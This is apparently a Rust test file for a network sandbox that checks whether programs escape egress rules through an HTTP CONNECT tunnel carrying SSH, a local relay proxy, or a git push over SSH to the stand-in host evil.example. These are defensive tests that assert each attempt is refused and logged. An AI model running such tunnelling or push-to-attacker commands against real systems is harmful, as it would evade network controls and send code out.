//! Does a program get further by another protocol, or by another program of the box that speaks for it? (N17, N18)

use super::support::log::Log;
use super::support::project::Project;
use super::support::sink::Sink;
use super::support::site::Site;

/// Asks for a tunnel, and says something that is no TLS into it.
const SSH_IN_A_TUNNEL: &str = r#"
import socket, sys
stream = socket.create_connection(("127.0.0.1", 3128))
stream.sendall(f"CONNECT {sys.argv[1]} HTTP/1.1\r\nHost: {sys.argv[1]}\r\n\r\n".encode())
head = b""
while b"\r\n\r\n" not in head:
    part = stream.recv(1)
    if not part: break
    head += part
print("tunnel", head.split(b" ")[1].decode(), flush=True)
stream.sendall(b"SSH-2.0-OpenSSH_9.2\r\n" + b"x" * 64)
heard = b""
try:
    while part := stream.recv(4096): heard += part
except OSError:
    pass
print("heard ssh", b"SSH-" in heard, flush=True)
"#;

/// Passes what comes on to the gate's own proxy, as if it came from itself.
const RELAY: &str = r#"
import socket, threading
def pump(one, other):
    try:
        while part := one.recv(4096): other.sendall(part)
    except OSError:
        pass
    for end in (one, other):
        try: end.shutdown(socket.SHUT_RDWR)
        except OSError: pass
listener = socket.create_server(("127.0.0.1", 8899))
print("relay", flush=True)
while True:
    client, _ = listener.accept()
    gate = socket.create_connection(("127.0.0.1", 3128))
    for pair in ((client, gate), (gate, client)):
        threading.Thread(target=pump, args=pair, daemon=True).start()
"#;

#[test]
fn n17_ssh_has_no_way_out_but_a_rule_of_its_own() {
    let project = Project::new();
    let (site, sink) = (Site::start(&project), Sink::start());
    let target = site.target();
    project.configure(&format!(
        "[roles.default]\nallow = [\"net({target})\"]\n[hosts.\"{target}\"]\nprivate = true\ntls = \"terminate\"\n"
    ));
    project.write("tunnel.py", SSH_IN_A_TUNNEL);
    let elsewhere = format!("127.0.0.1:{}", sink.port());
    let script = format!(
        "python3 tunnel.py {target}; python3 tunnel.py {elsewhere}; git init -q . ; \
         GIT_SSH_COMMAND='ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=5' \
         git push ssh://git@evil.example/x HEAD 2>&1; echo pushed: $?; \
         curl -sS -o /dev/null -w 'twin %{{http_code}}' https://{target}/ok"
    );
    let ran = project
        .bartizan(&["run", "--no-summary", "--", "bash", "-c", &script])
        .env("SSL_CERT_FILE", &site.certificate())
        .finish();
    assert!(ran.stdout.contains("tunnel 200") && ran.stdout.contains("tunnel 403"), "{ran:?}");
    assert!(!ran.stdout.contains("heard ssh True"), "{ran:?}");
    assert!(ran.stdout.contains("pushed: ") && !ran.stdout.contains("pushed: 0"), "{ran:?}");
    assert!(ran.stdout.contains("twin 200"), "{ran:?}");
    assert_eq!(sink.arrived(), Vec::<String>::new(), "nothing came to an address without a rule");
    assert_eq!(site.arrived(), ["GET /ok"], "and nothing but the request to one with a rule");
    let log = Log::read(&project);
    log.find("refusal", |record| {
        record["tool"] == "net.connect" && record["arguments"]["host"] == "127.0.0.1"
    });
}

#[test]
fn n18_a_relay_in_the_box_is_judged_as_the_box() {
    let project = Project::new();
    let site = Site::start(&project);
    let target = site.target();
    project.configure(&format!(
        "[roles.default]\nallow = [\"net(GET {target})\"]\n[hosts.\"{target}\"]\nprivate = true\ntls = \"terminate\"\n"
    ));
    project.write("relay.py", RELAY);
    let script = format!(
        "exec 3< <(python3 relay.py); read -u 3 ready; by() {{ curl -sS -o /dev/null -w \"$1 %{{http_connect}} %{{http_code}}\\n\" \
         --noproxy '' -x http://127.0.0.1:8899 \"${{@:2}}\"; }}; \
         by twin https://{target}/ok; by evil https://evil.example/; by write -X DELETE https://{target}/gone"
    );
    let ran = project
        .bartizan(&["run", "--no-summary", "--", "bash", "-c", &script])
        .env("SSL_CERT_FILE", &site.certificate())
        .finish();
    assert!(ran.stdout.contains("twin 200 200"), "{ran:?}");
    assert!(ran.stdout.contains("evil 403 000"), "{ran:?}");
    assert!(ran.stdout.contains("write 200 403"), "{ran:?}");
    assert_eq!(site.arrived(), ["GET /ok"], "{ran:?}");
    let log = Log::read(&project);
    let evil = log.find("refusal", |record| record["arguments"]["host"] == "evil.example");
    let twin = log.find("call", |record| record["tool"] == "net.request");
    assert_eq!(evil["session"], twin["session"], "whoever speaks, it is the box's session");
}
